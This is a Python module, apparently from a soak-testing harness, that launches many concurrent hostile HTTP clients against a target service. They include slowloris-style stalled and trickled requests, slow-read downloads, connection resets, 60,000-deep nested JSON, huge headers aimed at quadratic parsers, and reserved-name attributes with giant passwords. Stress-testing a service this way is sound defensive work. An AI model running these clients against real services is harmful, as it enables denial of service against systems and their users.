"""Hostile clients of an HTTP service: ``python -m soak.clients NAME:COUNT ...``.

They are a process of their own, so that what they cost does not count as the service's time. The
target comes as JSON on standard input, for it may have a user's headers; when that is closed, they
end, as they do after ``seconds``.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import random
import resource
import socket
import struct
import sys
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from typing import Any

#: seconds between two drops of a client that drips, and between two connections of a client
DRIP_S, PAUSE_S = 0.5, 0.2
#: seconds after which a tenant's client hangs up
PATIENCE_S = 3.0
#: descriptors for everything but the connections
OTHER_FILES = 100
#: connections that are opened in a second, at most: more than that is an attack on the kernel
OPENED_S = 1000
_RESET = struct.pack("ii", 1, 0)


@dataclass(frozen=True)
class Target:
    """What is attacked.

    Attributes:
        host: its address.
        port: its port.
        headers: of a user, for attacks by one; in the order in which they are sent.
        paths: what such a user asks for.
        seconds: after which the clients end by themselves.
    """

    host: str
    port: int
    headers: dict[str, str] = field(default_factory=dict, repr=False)
    paths: tuple[str, ...] = ("/disco/",)
    seconds: float = 3600.0

    def head(self, line: str, **more: str) -> bytes:
        """The head of a request; names of headers in ``more`` have ``_`` for ``-``."""
        headers = {"Host": f"{self.host}:{self.port}", **self.headers}
        headers |= {name.replace("_", "-"): value for name, value in more.items()}
        lines = [f"{line} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items())]
        return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n"


class Connection:
    """One connection to the target, from an address of its own."""

    _numbers = itertools.count()

    def __init__(self, target: Target, receive_bytes: int | None = None) -> None:
        self._socket = socket.socket()
        self._socket.setblocking(False)
        if receive_bytes:
            self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        if target.host.startswith("127."):
            # ports that wait after a close are soon used up on one address
            self._socket.bind((f"127.0.1.{next(self._numbers) % 32 + 1}", 0))
        self._target = target
        self._loop = asyncio.get_running_loop()

    async def __aenter__(self) -> Connection:
        await self._loop.sock_connect(self._socket, (self._target.host, self._target.port))
        return self

    async def __aexit__(self, *_: object) -> None:
        self._socket.close()

    async def send(self, data: bytes) -> None:
        """Send all of it, or raise ``OSError``."""
        await self._loop.sock_sendall(self._socket, data)

    async def read(self, size: int = 65536) -> bytes:
        """What is there, or the empty text at the end."""
        return await self._loop.sock_recv(self._socket, size)

    async def read_to_the_end(self) -> None:
        """Until the service closes."""
        while await self.read():
            pass

    async def drip(self, drop: bytes) -> None:
        """Send a little now and then, until the service closes."""
        while True:
            await self.send(drop)
            with contextlib.suppress(TimeoutError):
                if not await asyncio.wait_for(self.read(), DRIP_S):
                    return

    def half_close(self) -> None:
        """Say that nothing more comes."""
        self._socket.shutdown(socket.SHUT_WR)

    def reset(self) -> None:
        """Hang up so that what the service still sends is refused."""
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)


async def stalled_upload(target: Target) -> None:
    """A body is announced, one byte comes, and then nothing."""
    async with Connection(target) as connection:
        await connection.send(target.head("POST /v3/auth/tokens", Content_Length="60000") + b"{")
        await connection.read_to_the_end()


async def slow_upload(target: Target) -> None:
    """A body comes byte by byte."""
    async with Connection(target) as connection:
        await connection.send(target.head("POST /v2.0/tokens", Content_Length="60000"))
        await connection.drip(b"[")


async def stalled_head(target: Target) -> None:
    """Half of a head comes."""
    async with Connection(target) as connection:
        await connection.send(target.head("GET /disco/")[:-9])
        await connection.read_to_the_end()


async def slow_head(target: Target) -> None:
    """A head comes line by line, without an end."""
    async with Connection(target) as connection:
        await connection.send(target.head("GET /disco/")[:-2])
        await connection.drip(b"A: b\r\n")


async def chunk_trickle(target: Target) -> None:
    """A body comes in chunks of one byte, without an end."""
    async with Connection(target) as connection:
        head = target.head("POST /v3/auth/tokens", Transfer_Encoding="chunked")
        await connection.send(head)
        await connection.drip(b"1\r\n[\r\n")


async def stalled_download(target: Target) -> None:
    """Large answers are asked for, and not taken."""
    async with Connection(target, receive_bytes=2048) as connection:
        await connection.send(target.head("GET /openapi.json") * 20)
        await asyncio.sleep(PATIENCE_S * 5)


async def slow_download(target: Target) -> None:
    """A large answer is taken byte by byte."""
    async with Connection(target, receive_bytes=2048) as connection:
        await connection.send(target.head("GET /openapi.json"))
        while await connection.read(1):
            await asyncio.sleep(DRIP_S)


async def hang_up(target: Target) -> None:
    """A request is broken off anywhere, or its answer is refused."""
    request = target.head("POST /disco/", Content_Length="2") + b"{}"
    async with Connection(target) as connection:
        await connection.send(request[: random.randrange(1, len(request) + 1)])
        await asyncio.sleep(random.uniform(0, PAUSE_S))
        connection.reset()


async def half_open(target: Target) -> None:
    """The client says that nothing more comes, and does not close."""
    request = target.head("GET /-/")
    async with Connection(target) as connection:
        await connection.send(request[: random.choice((1, len(request) // 2, len(request)))])
        connection.half_close()
        await connection.read_to_the_end()


async def idle(target: Target) -> None:
    """A connection, and nothing else."""
    async with Connection(target) as connection:
        await connection.read_to_the_end()


async def deep_json(target: Target) -> None:
    """JSON of thousands of arrays in one another, without credentials."""
    body = b"[" * 60_000
    for path in ("/v2.0/tokens", "/v3/auth/tokens"):
        await _ask(target, target.head(f"POST {path}", Content_Length=str(len(body))) + body)


async def long_headers(target: Target) -> None:
    """Headers that quadratic readers would need minutes for."""
    texts = ("OCCI/" + "9" * 60_000, "a;q=0.1," * 8000, " " * 60_000 + "x", "a=" * 30_000)
    for name, text in itertools.product(("User_Agent", "Accept", "X_OCCI_Attribute"), texts):
        await _ask(target, target.head("GET /disco/", **{name: text}))


async def reserved_names(target: Target) -> None:
    """Attributes named like DISCO's own notes, with passwords of millions of characters."""
    sent = ",".join(
        f'{name}="x jupyter.password:20000000"'
        for name in ("disco.generated", "disco.workers.created", "disco.workers")
    )
    head = target.head(
        "POST /disco/",
        Content_Type="text/occi",
        Category='disco; scheme="http://schemas.cloudcomplab.ch/occi/sm#"; class="kind"',
        X_OCCI_Attribute=sent,
    )
    await _ask(target, head)


async def ask_and_hang_up(target: Target) -> None:
    """A tenant's requests, whose answers nobody waits for."""
    for path in target.paths:
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(_ask(target, target.head(f"GET {path}")), PATIENCE_S)


async def _ask(target: Target, request: bytes) -> None:
    async with Connection(target) as connection:
        await connection.send(request)
        await connection.read()


Client = Callable[[Target], Awaitable[None]]
CLIENTS: dict[str, Client] = {
    client.__name__.replace("_", "-"): client
    for client in (
        *(stalled_upload, slow_upload, stalled_head, slow_head, chunk_trickle),
        *(stalled_download, slow_download, hang_up, half_open, idle),
        *(deep_json, long_headers, reserved_names, ask_and_hang_up),
    )
}


async def _again_and_again(client: Client, target: Target, delay: float) -> None:
    await asyncio.sleep(delay)
    while True:
        with contextlib.suppress(OSError):
            await client(target)
        await asyncio.sleep(PAUSE_S)


async def _attack(target: Target, counts: dict[str, int]) -> None:
    loop = asyncio.get_running_loop()
    over = loop.create_task(_wait_for_end())
    number = itertools.count()
    attackers = [
        loop.create_task(_again_and_again(CLIENTS[name], target, next(number) / OPENED_S))
        for name, count in counts.items()
        for _ in range(count)
    ]
    await asyncio.wait([over], timeout=target.seconds)
    for attacker in attackers:
        attacker.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)


async def _wait_for_end() -> None:
    """Until standard input is closed."""
    reader = asyncio.StreamReader()
    loop = asyncio.get_running_loop()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    await reader.read()


def raise_open_files(wanted: int) -> int:
    """Allow this process so many connections; how many the system lets it have."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < wanted + OTHER_FILES:
        soft = wanted + OTHER_FILES
        if hard != resource.RLIM_INFINITY:
            soft = min(soft, hard)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return soft - OTHER_FILES


def main(arguments: list[str]) -> int:
    """Attack until standard input is closed."""
    counts = {name: int(count) for name, count in (one.split(":") for one in arguments)}
    raise_open_files(sum(counts.values()))
    told: dict[str, Any] = json.loads(sys.stdin.readline())
    told["paths"] = tuple(told["paths"])
    asyncio.run(_attack(Target(**told), counts))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
